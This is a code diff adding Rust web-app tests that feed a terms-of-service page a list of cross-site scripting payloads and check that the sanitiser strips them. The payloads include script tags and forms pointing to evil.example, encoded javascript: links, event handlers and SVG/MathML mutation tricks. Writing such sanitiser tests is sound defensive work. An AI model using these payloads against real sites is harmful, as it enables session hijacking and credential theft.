@@ -40,6 +40,87 @@ async fn nothing_that_acts_is_left_of_a_document() {
     assert_eq!(text, "<p>Be kind</p><a rel=\"noopener\">j</a><a rel=\"noopener\">k</a><a rel=\"noopener\">d</a>f<p>2 &lt; 3</p>");
 }
 
+/// What an attacker who writes a document might try, and the words that must be left of it.
+const HOSTILE: [(&str, &str); 22] = [
+    ("<script>alert(1)</script><script src=//evil.example/x.js></script>left", "left"),
+    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt>alert(1)ipt>"),
+    ("<SCRIPT/XSS SRC=//evil.example></SCRIPT>left", "left"),
+    ("<p onclick=alert(1) onmouseover='a()' ONFOCUS=a autofocus tabindex=1>left</p>", "left"),
+    ("<a href=\"JaVaScRiPt:alert(1)\">left</a>", "left"),
+    ("<a href=\"&#106;&#97;vascript&colon;alert(1)\">left</a>", "left"),
+    ("<a href=\" \u{1}javascript:alert(1)\">left</a>", "left"),
+    ("<a href=\"jav&#x09;ascript:alert(1)\">left</a>", "left"),
+    ("<a href=\"vbscript:x\">l</a><a href=\"data:text/html;base64,PHNjcmlwdD4=\">e</a><a href=\"blob:x\">ft</a>", "left"),
+    ("<p style=\"background:url(//evil.example)\" class=\"button\">left</p><style>@import '//evil.example';</style>", "left"),
+    ("<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=\"0;url=//evil.example\">left", "left"),
+    ("<base href=//evil.example/><base target=_blank>left", "left"),
+    ("<svg><a xlink:href=\"javascript:a()\"><circle onload=a()></a><script>a()</script></svg>left", "left"),
+    ("<svg><style><img src=x onerror=a()></style></svg>left", "left"),
+    ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=a()&gt;\">", ""),
+    ("<noscript><p title=\"</noscript><img src=x onerror=a()>\">left", "\">left"),
+    (
+        "<form action=//evil.example method=post><input name=password type=password><button formaction=x>left</button></form>",
+        "left",
+    ),
+    ("<iframe src=//evil.example srcdoc=\"<script>a()</script>\"></iframe><embed src=x><object data=x>x</object>left", "left"),
+    (
+        "<img src=//evil.example/pixel.gif srcset=x><video src=x></video><audio src=x></audio><picture><source></picture>left",
+        "left",
+    ),
+    ("<p id=main name=password data-island=waiting data-code=x data-screen=login role=alert aria-hidden=true>left</p>", "left"),
+    ("</div></main></body></html><main data-screen=login>left</main><!-- <b>hidden</b> -->", "left"),
+    ("<template><script>a()</script></template><textarea><script>a()</script></textarea><title>t</title>left", "left"),
+];
+
+#[actix_web::test]
+async fn hostile_documents_come_out_clean() {
+    for (html, left) in HOSTILE {
+        let stub = Stub::telling(&[("terms/service-terms", html), ("terms/service-terms/read", html)]);
+        let site = Site::with(&format!("[account_api]\nroot = \"{}\"", stub.root));
+        for path in ["/en/terms/service", "/en/agreeToTerms"] {
+            let page = site.browser().get(path).await;
+            assert_eq!(page.text(".prose"), left, "{html}");
+            for tag in
+                ["script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "img", "template"]
+            {
+                assert_eq!(page.count(&format!(".prose {tag}")), 0, "{html}\n{page}");
+            }
+            assert_eq!((page.count("main"), page.count("body"), page.count("#main")), (1, 1, 1), "{html}");
+            let parsed = page.html();
+            let all = scraper::Selector::parse(".prose, .prose *").unwrap();
+            for (name, value) in parsed.select(&all).skip(1).flat_map(|element| element.value().attrs()) {
+                let is_known = ["href", "id", "rel"].contains(&name);
+                assert!(is_known && !value.contains("evil") && !value.contains("script"), "{html}: {name}={value}");
+            }
+        }
+    }
+}
+
+#[actix_web::test]
+async fn the_operator_replaces_a_text_for_a_language_or_a_brand_without_a_build() {
+    let folder = tempfile::tempdir().unwrap();
+    let write = |file: &str, text: &str| {
+        let file = folder.path().join("i18n").join(file);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    write("et/documents/service-terms.html", "<h2>Meie tingimused</h2><script>a()</script>");
+    write("brands/sibling/lv/service-terms.html", "<p>{product}: mūsu noteikumi</p>");
+    let with = |brand: &str| Site::with(&format!("[site]\nbrand = \"{brand}\"\noverrides = \"{}\"", folder.path().display()));
+    let (main, sibling) = (with("main"), with("sibling"));
+    for site in [&main, &sibling] {
+        let page = site.browser().get("/et/terms/service").await;
+        assert_eq!(page.text(".prose"), "Meie tingimused", "{page}");
+        let file = site.browser().get("/account/terms/service-terms/download?lang=et").await;
+        assert!(file.body.contains("Meie tingimused") && file.header("content-disposition").starts_with("attachment"), "{file}");
+        assert!(site.browser().get("/en/terms/service").await.count(".prose h2") > 1, "other languages are as built in");
+    }
+    assert!(sibling.browser().get("/lv/terms/service").await.text(".prose").ends_with(": mūsu noteikumi"));
+    assert!(!main.browser().get("/lv/terms/service").await.text(".prose").contains("mūsu noteikumi"));
+    write("et/documents/service-terms.html", "<p>Uued tingimused</p>");
+    assert_eq!(main.browser().get("/et/agreeToTerms").await.text(".prose"), "Uued tingimused", "without a restart, too");
+}
+
 #[actix_web::test]
 async fn links_to_the_policy_lead_to_our_page_and_others_where_they_meant() {
     for (href, leads) in [
